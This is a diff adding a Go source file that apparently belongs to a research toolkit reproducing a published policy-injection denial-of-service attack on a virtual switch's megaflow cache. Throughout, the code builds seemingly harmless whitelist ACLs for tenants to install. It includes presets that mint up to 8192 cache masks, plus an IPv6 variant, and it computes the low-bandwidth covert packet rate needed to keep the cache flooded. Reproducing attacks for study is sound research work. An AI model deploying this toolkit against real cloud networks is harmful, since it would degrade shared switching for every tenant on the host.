@@ -1,0 +1,240 @@
+// Package attack implements the paper's contribution: the policy-injection
+// attack toolkit. It has three ingredients, mirroring §2 of the paper:
+//
+//  1. a set of malicious ACLs — seemingly harmless whitelist entries the
+//     tenant installs through the CMS (BuildACL);
+//  2. an adversarial packet sequence — the low-bandwidth covert stream
+//     that trashes the megaflow cache with excess entries and masks
+//     (Keys, Frames);
+//  3. a plan/verification layer that predicts the mask count, sizes the
+//     covert stream against the revalidator, and checks the cache state
+//     actually reached (Predict, Verify).
+//
+// The mechanism: each whitelisted field value admits one megaflow mask per
+// divergence depth (leading-bit position at which a packet first differs
+// from the value). With k independently-whitelisted fields the depths
+// multiply, so w₁·w₂·…·w_k masks can be minted — 32·16 = 512 for the
+// paper's ip_src + tp_dst attack, 32·16·16 = 8192 with tp_src (Calico).
+package attack
+
+import (
+	"fmt"
+	"net/netip"
+
+	"policyinject/internal/acl"
+	"policyinject/internal/flow"
+	"policyinject/internal/pkt"
+)
+
+// TargetField is one protocol field the malicious ACL whitelists.
+type TargetField struct {
+	// Field is the attacked header field. Supported: ip_src, ip_dst,
+	// tp_src, tp_dst, ipv6_src_hi, ipv6_dst_hi.
+	Field flow.FieldID
+	// Allow is the whitelisted value (an IP as uint32, or a port).
+	Allow uint64
+	// Width is the prefix length of the whitelist rule and hence the
+	// number of divergence depths the attacker can exercise; 0 means the
+	// full field width (exact-match rule).
+	Width int
+}
+
+func (t TargetField) width() int {
+	if t.Width == 0 {
+		return t.Field.Bits()
+	}
+	return t.Width
+}
+
+// Attack is a configured policy-injection attack instance.
+type Attack struct {
+	// Fields are the whitelisted target fields, one ACL entry each.
+	Fields []TargetField
+	// VictimSubnet guards the attack ACL template in examples; unused by
+	// the mechanics.
+	//
+	// Packet template for the covert stream:
+	SrcIP, DstIP netip.Addr // defaults: 172.16.0.66 -> attacker pod
+	Proto        uint8      // default TCP
+	FrameLen     int        // default 64 (minimum-size covert packets)
+}
+
+// Presets reproducing the paper's three configurations.
+
+// SingleField is the illustration of Fig. 2: one /8 source-prefix rule;
+// 8 masks.
+func SingleField() *Attack {
+	return &Attack{Fields: []TargetField{
+		{Field: flow.FieldIPSrc, Allow: 0x0a000000, Width: 8}, // 10.0.0.0/8
+	}}
+}
+
+// TwoField is the paper's "2 ACL rules matching solely on the IP source
+// address and the L4 destination port": 32·16 = 512 masks, ~10% of peak.
+func TwoField() *Attack {
+	return &Attack{Fields: []TargetField{
+		{Field: flow.FieldIPSrc, Allow: 0x0a000001}, // allow from 10.0.0.1
+		{Field: flow.FieldTPDst, Allow: 80},         // allow to :80
+	}}
+}
+
+// ThreeField adds the L4 source port (possible when the CMS plugin —
+// Calico in the paper — lets tenants filter on it): 32·16·16 = 8192
+// masks, the full-blown DoS of Fig. 3.
+func ThreeField() *Attack {
+	return &Attack{Fields: []TargetField{
+		{Field: flow.FieldIPSrc, Allow: 0x0a000001},
+		{Field: flow.FieldTPDst, Allow: 80},
+		{Field: flow.FieldTPSrc, Allow: 5201},
+	}}
+}
+
+// V6TwoField is the IPv6 extension the paper's "arbitrary number of
+// protocol fields" remark invites: whitelisting a single IPv6 source
+// address exposes 64 divergence depths in the top half alone, so
+// ipv6_src_hi × tp_dst already mints 64·16 = 1024 masks — double the
+// IPv4 equivalent, with the /64-plus-interface-ID structure of real
+// deployments still unexploited.
+func V6TwoField() *Attack {
+	hi, _ := flow.V6(netip.MustParseAddr("2001:db8:0:1::1"))
+	return &Attack{Fields: []TargetField{
+		{Field: flow.FieldIPv6SrcHi, Allow: hi},
+		{Field: flow.FieldTPDst, Allow: 80},
+	}}
+}
+
+func (a *Attack) defaults() (netip.Addr, netip.Addr, uint8, int) {
+	src, dst, proto, flen := a.SrcIP, a.DstIP, a.Proto, a.FrameLen
+	if !src.IsValid() {
+		src = netip.MustParseAddr("172.16.0.66")
+	}
+	if !dst.IsValid() {
+		dst = netip.MustParseAddr("172.16.0.2")
+	}
+	if proto == 0 {
+		proto = pkt.ProtoTCP
+	}
+	if flen == 0 {
+		flen = 64
+	}
+	return src, dst, proto, flen
+}
+
+// Validate rejects unsupported target fields and out-of-range values.
+func (a *Attack) Validate() error {
+	if len(a.Fields) == 0 {
+		return fmt.Errorf("attack: no target fields")
+	}
+	seen := map[flow.FieldID]bool{}
+	for _, t := range a.Fields {
+		switch t.Field {
+		case flow.FieldIPSrc, flow.FieldIPDst, flow.FieldTPSrc, flow.FieldTPDst,
+			flow.FieldIPv6SrcHi, flow.FieldIPv6DstHi:
+		default:
+			return fmt.Errorf("attack: unsupported target field %s", t.Field.Name())
+		}
+		if seen[t.Field] {
+			return fmt.Errorf("attack: duplicate target field %s", t.Field.Name())
+		}
+		seen[t.Field] = true
+		if t.width() < 1 || t.width() > t.Field.Bits() {
+			return fmt.Errorf("attack: %s width %d out of range", t.Field.Name(), t.Width)
+		}
+		if t.Field.Bits() < 64 && t.Allow >= 1<<uint(t.Field.Bits()) {
+			return fmt.Errorf("attack: %s allow value %#x overflows field", t.Field.Name(), t.Allow)
+		}
+	}
+	return nil
+}
+
+// PredictedMasks returns the number of distinct megaflow masks the covert
+// stream mints: the product of the per-field widths.
+func (a *Attack) PredictedMasks() int {
+	n := 1
+	for _, t := range a.Fields {
+		n *= t.width()
+	}
+	return n
+}
+
+// BuildACL constructs the malicious — yet CMS-acceptable — ACL: one
+// whitelist entry per target field (each matching solely on that field,
+// which is what makes the subtable masks independent), default deny.
+func (a *Attack) BuildACL() (*acl.ACL, error) {
+	if err := a.Validate(); err != nil {
+		return nil, err
+	}
+	_, _, proto, _ := a.defaults()
+	out := &acl.ACL{Comment: "policy-injection"}
+	for _, t := range a.Fields {
+		var e acl.Entry
+		switch t.Field {
+		case flow.FieldIPSrc:
+			e.Src = netip.PrefixFrom(flow.V4Addr(t.Allow), t.width())
+		case flow.FieldIPDst:
+			e.Dst = netip.PrefixFrom(flow.V4Addr(t.Allow), t.width())
+		case flow.FieldIPv6SrcHi:
+			e.Src = netip.PrefixFrom(v6FromHi(t.Allow), t.width())
+		case flow.FieldIPv6DstHi:
+			e.Dst = netip.PrefixFrom(v6FromHi(t.Allow), t.width())
+		case flow.FieldTPSrc:
+			e.Proto = proto
+			e.SrcPort = acl.Port(uint16(t.Allow))
+		case flow.FieldTPDst:
+			e.Proto = proto
+			e.DstPort = acl.Port(uint16(t.Allow))
+		}
+		e.Comment = fmt.Sprintf("whitelist %s", t.Field.Name())
+		out.Allow(e)
+	}
+	return out, nil
+}
+
+// StreamPlan sizes the covert stream: the packet rate needed to keep every
+// injected megaflow alive against the revalidator's idle timeout, and the
+// bandwidth that rate costs. The paper's point is that this is tiny
+// (1–2 Mbps).
+type StreamPlan struct {
+	Packets      int     // distinct covert packets (= predicted masks)
+	PPS          float64 // replay rate to beat the idle timeout
+	BandwidthBPS float64 // bits per second at the configured frame length
+}
+
+// Plan computes the covert stream requirements for a revalidator idle
+// timeout of idleSeconds.
+func (a *Attack) Plan(idleSeconds float64) StreamPlan {
+	_, _, _, flen := a.defaults()
+	n := a.PredictedMasks()
+	pps := float64(n) / idleSeconds
+	return StreamPlan{
+		Packets:      n,
+		PPS:          pps,
+		BandwidthBPS: pps * float64(flen) * 8,
+	}
+}
+
+// v6FromHi builds the IPv6 address whose top half is hi (low half zero),
+// the whitelisted value a hi-field attack targets.
+func v6FromHi(hi uint64) netip.Addr {
+	var b [16]byte
+	for i := 0; i < 8; i++ {
+		b[i] = byte(hi >> uint(56-8*i))
+	}
+	return netip.AddrFrom16(b)
+}
+
+// v6Targeted reports whether any target field is an IPv6 one.
+func (a *Attack) v6Targeted() bool {
+	for _, t := range a.Fields {
+		switch t.Field {
+		case flow.FieldIPv6SrcHi, flow.FieldIPv6DstHi:
+			return true
+		}
+	}
+	return false
+}
+
+func (p StreamPlan) String() string {
+	return fmt.Sprintf("%d covert packets, %.0f pps to stay resident, %.2f Mbps",
+		p.Packets, p.PPS, p.BandwidthBPS/1e6)
+}
